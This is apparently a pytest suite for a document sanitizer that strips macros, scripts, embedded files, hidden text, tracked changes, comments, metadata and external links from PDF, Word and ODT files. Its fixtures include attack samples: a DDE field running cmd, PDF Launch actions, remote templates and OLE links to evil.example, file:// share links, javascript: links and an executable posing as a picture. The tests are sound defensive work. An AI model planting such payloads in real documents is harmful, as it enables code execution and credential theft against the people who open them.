"""The clean copy shows what a reader saw, and holds nothing that acts, hides or tells of a person."""

import io
import re
from collections.abc import Callable

import pikepdf
import pytest

from consulta.adapters.files import pictures
from consulta.adapters.files.findings import DOCX, Finding, Verdict

from . import made
from .conftest import Seen

Look = Callable[[bytes], Seen]


def parts(it: Seen) -> str:
    """All parts of a cleaned DOCX or ODT as one text, names included."""
    assert it.clean is not None, it.findings
    return repr(made.entries(it.clean))


def test_a_pdf_loses_scripts_launches_files_authors_and_foreign_links(seen: Look) -> None:
    it = seen(made.hostile_pdf())
    assert it.findings == {
        Finding.ACTIVE_CONTENT_REMOVED,
        Finding.EMBEDDED_FILES_REMOVED,
        Finding.EXTERNAL_LINKS_REMOVED,
        Finding.HIDDEN_DATA_REMOVED,
    }
    with pikepdf.open(io.BytesIO(it.clean or b"")) as pdf:
        left = b"".join(
            thing.unparse() + (thing.read_bytes() if isinstance(thing, pikepdf.Stream) else b"")
            for thing in pdf.objects
        ) + bytes(repr(pdf.trailer), "utf-8")
    for gone in (b"JavaScript", b"Launch", b"cmd.exe", b"calc.exe", b"evil", b"Jane", b"EICAR"):
        assert gone not in left, gone
    assert b"https://example.org/" in left
    assert b"NextPage" in left


def test_a_file_inside_a_pdf_is_handed_to_the_virus_scanner(seen: Look) -> None:
    assert seen(made.hostile_pdf()).embedded == [made.EICAR]


def test_a_word_file_loses_its_author(seen: Look) -> None:
    parts_before = made.word("Hello")
    assert "Jane Secret" in repr(parts_before)
    it = seen(made.zipped(parts_before))
    assert "Jane Secret" not in parts(it)
    assert Finding.HIDDEN_DATA_REMOVED in it.findings


def test_a_word_file_with_macros_becomes_one_without(seen: Look) -> None:
    document = made.word("Hello")
    types = document["[Content_Types].xml"]
    assert isinstance(types, bytes)
    document["[Content_Types].xml"] = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    document["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0Sub AutoOpen"
    made.related(document, "vbaProject", "vbaProject.bin")
    it = seen(made.zipped(document))
    assert (it.kind, it.verdict) == (DOCX, Verdict.CLEAN)
    assert Finding.MACROS_REMOVED in it.findings
    assert "vba" not in parts(it).lower()
    assert "macroEnabled" not in parts(it)


def test_accepted_changes_leave_no_deleted_words_and_no_names(seen: Look) -> None:
    it = seen(
        made.zipped(
            made.word_with(
                '<w:p><w:pPr><w:pPrChange w:author="Jane"><w:pPr/></w:pPrChange></w:pPr>'
                "<w:r><w:t>We </w:t></w:r>"
                '<w:del w:author="Jane"><w:r><w:delText>attack </w:delText></w:r></w:del>'
                '<w:ins w:author="Jane"><w:r><w:t>welcome </w:t></w:r></w:ins>'
                "<w:r><w:t>this</w:t></w:r></w:p>"
                '<w:tbl><w:tr><w:trPr><w:del w:author="Jane"/></w:trPr><w:tc><w:p><w:r>'
                "<w:t>lost row</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
            )
        )
    )
    assert it.text == "We welcome this"
    assert Finding.CHANGES_ACCEPTED in it.findings
    assert not re.search("Jane|attack|lost row", parts(it))


def test_comments_and_who_made_them_are_gone(seen: Look) -> None:
    document = made.word_with(
        '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>Hello</w:t></w:r>'
        '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>'
    )
    document["word/comments.xml"] = f'<w:comments xmlns:w="{made.W}">Jane: nonsense</w:comments>'
    made.related(document, "comments", "comments.xml")
    it = seen(made.zipped(document))
    assert it.text == "Hello"
    assert Finding.COMMENTS_REMOVED in it.findings
    assert not re.search("Jane|comment", parts(it))


def test_hidden_words_are_neither_shown_nor_read(seen: Look) -> None:
    hidden = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r>"
    shown = '<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>open</w:t></w:r>'
    it = seen(made.zipped(made.word_with(f"<w:p>{hidden}{shown}</w:p>")))
    assert it.text == "open"
    assert Finding.HIDDEN_TEXT_REMOVED in it.findings
    assert "secret" not in parts(it)


@pytest.mark.parametrize(
    ("kind", "target", "body"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm", '<w:attachedTemplate r:id="rIdX"/>'),
        ("image", "http://evil.example/pixel.png", "<w:p/>"),
        ("oleObject", "http://evil.example/x", '<w:object><o:OLEObject r:id="rIdX"/></w:object>'),
        ("frame", "file://server/share", "<w:p/>"),
        ("hyperlink", "javascript:alert(1)", '<w:hyperlink r:id="rIdX"><w:r/></w:hyperlink>'),
        ("hyperlink", "file:////evil.example/x", '<w:hyperlink r:id="rIdX"><w:r/></w:hyperlink>'),
    ],
)
def test_nothing_in_a_word_file_reaches_outside(
    seen: Look, kind: str, target: str, body: str
) -> None:
    document = made.word_with(f"<w:p><w:r><w:t>Hello</w:t></w:r>{body}</w:p>")
    made.related(document, kind, target, TargetMode="External")
    it = seen(made.zipped(document))
    assert it.text == "Hello"
    assert Finding.EXTERNAL_LINKS_REMOVED in it.findings
    assert not re.search("evil|server|javascript|rIdX|OLEObject|attachedTemplate", parts(it))


def test_a_link_to_the_web_stays_a_link(seen: Look) -> None:
    document = made.word_with('<w:p><w:hyperlink r:id="rIdX"><w:r/></w:hyperlink></w:p>')
    made.related(document, "hyperlink", "https://example.org/a", TargetMode="External")
    it = seen(made.zipped(document))
    assert parts(it).count("rIdX") == 2
    assert Finding.EXTERNAL_LINKS_REMOVED not in it.findings


@pytest.mark.parametrize("kind", ["oleObject", "package", "aFChunk", "control"])
def test_files_inside_a_word_file_are_gone(seen: Look, kind: str) -> None:
    document = made.word_with('<w:p><w:r><w:t>Hi</w:t></w:r></w:p><w:altChunk r:id="rIdX"/>')
    document["word/embeddings/inner.bin"] = b"PK\x03\x04 evil"
    made.related(document, kind, "embeddings/inner.bin")
    it = seen(made.zipped(document))
    assert it.text == "Hi"
    assert {Finding.EMBEDDED_FILES_REMOVED, Finding.ACTIVE_CONTENT_REMOVED} & it.findings
    assert not re.search("evil|inner|altChunk", parts(it))


def test_a_program_that_calls_itself_a_picture_is_gone(seen: Look) -> None:
    document = made.word("Hello")
    document["word/media/a.png"] = b"MZ evil"
    made.related(document, "image", "media/a.png")
    it = seen(made.zipped(document))
    assert Finding.EMBEDDED_FILES_REMOVED in it.findings
    assert "evil" not in parts(it)


FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'
    '<w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


@pytest.mark.parametrize(
    ("first", "second", "stays"),
    [
        ("DDE", 'AUTO cmd "/k calc"', False),
        ("INCLUDE", 'PICTURE "http://evil.example/p.png"', False),
        ("HYPERLINK ", '"file:////evil.example/x"', False),
        ("HYPERLINK ", '"https://example.org/"', True),
        ("PA", "GE", True),
    ],
)
def test_fields_that_fetch_or_run_keep_only_what_they_show(
    seen: Look, first: str, second: str, stays: bool
) -> None:
    it = seen(made.zipped(made.word_with(f"<w:p>{FIELD.format(first, second)}</w:p>")))
    assert it.text == "shown"
    assert (second.strip('"') in parts(it)) is stays
    assert (Finding.ACTIVE_CONTENT_REMOVED not in it.findings) is stays


def test_pictures_lose_what_they_tell_of_place_and_author(seen: Look) -> None:
    document = made.word("Hello")
    document["word/media/a.png"] = made.png(talk=b"Jane at 46.2N 6.1E")
    made.related(document, "image", "media/a.png")
    odt = made.odt(
        '<text:p>Hi<drawing:image xlink:href="Pictures/a.png"/></text:p>',
        more={"Pictures/a.png": made.png(talk=b"Jane")},
    )
    for it in (seen(made.zipped(document)), seen(odt)):
        assert "a.png" in parts(it)
        assert "Jane" not in parts(it)


def test_a_photograph_keeps_its_pixels_and_colours_only() -> None:
    def segment(marker: int, data: bytes) -> bytes:
        return bytes([0xFF, marker]) + (len(data) + 2).to_bytes(2, "big") + data

    jfif, scan = segment(0xE0, b"JFIF\0"), b"\xff\xda\0\2pixels\xff\xd9"
    talk = segment(0xE1, b"Exif\0\0GPS") + segment(0xFE, b"by Jane")
    assert pictures.quiet(b"\xff\xd8" + jfif + talk + scan) == b"\xff\xd8" + jfif + scan


def test_an_odt_loses_the_macros_that_stand_in_its_text(seen: Look) -> None:
    it = seen(
        made.odt(
            "<text:p>Hi<office:event-listeners><script:event-listener script:language='evil'/>"
            "</office:event-listeners></text:p>"
        )
    )
    assert (it.text, it.findings) == ("Hi", {Finding.MACROS_REMOVED})
    assert "evil" not in parts(it)


def test_an_odt_loses_macros_comments_changes_and_hidden_text(seen: Look) -> None:
    it = seen(
        made.odt(
            "<text:tracked-changes><text:p>attack</text:p></text:tracked-changes>"
            "<text:p>We <text:span text:style-name='T1'>secret</text:span>welcome"
            "<office:annotation><dc:creator>Jane</dc:creator><text:p>no</text:p>"
            "</office:annotation> this"
            "<text:hidden-text text:string-value='hush'>hush</text:hidden-text></text:p>"
            "<text:section text:display='none'><text:p>unseen</text:p></text:section>"
            "<text:p><text:a xlink:href='javascript:alert(1)'>one</text:a>"
            "<text:s text:c='2'/><text:a xlink:href='https://example.org/'>two</text:a></text:p>",
            styles="<style:style style:name='T1'><style:text-properties text:display='none'/>"
            "</style:style>",
            more={"Basic/Standard/evil.xml": "<a/>", "meta.xml": "Jane", "Thumbnails/t.png": "x"},
        )
    )
    assert it.text == "We welcome this\none  two"
    assert it.findings == {
        Finding.MACROS_REMOVED,
        Finding.COMMENTS_REMOVED,
        Finding.CHANGES_ACCEPTED,
        Finding.HIDDEN_TEXT_REMOVED,
        Finding.HIDDEN_DATA_REMOVED,
        Finding.EXTERNAL_LINKS_REMOVED,
    }
    gone = "Jane|attack|secret|hush|unseen|javascript|evil|Thumb|annotation"
    assert not re.search(gone, parts(it))


@pytest.mark.parametrize("text", [made.ARABIC, made.RUSSIAN, made.CHINESE, made.SPANISH])
def test_every_language_is_read_whole_from_word_and_odf(seen: Look, text: str) -> None:
    assert seen(made.zipped(made.word(text))).text == text
    assert seen(made.odt(f"<text:p>{text}</text:p>")).text == text
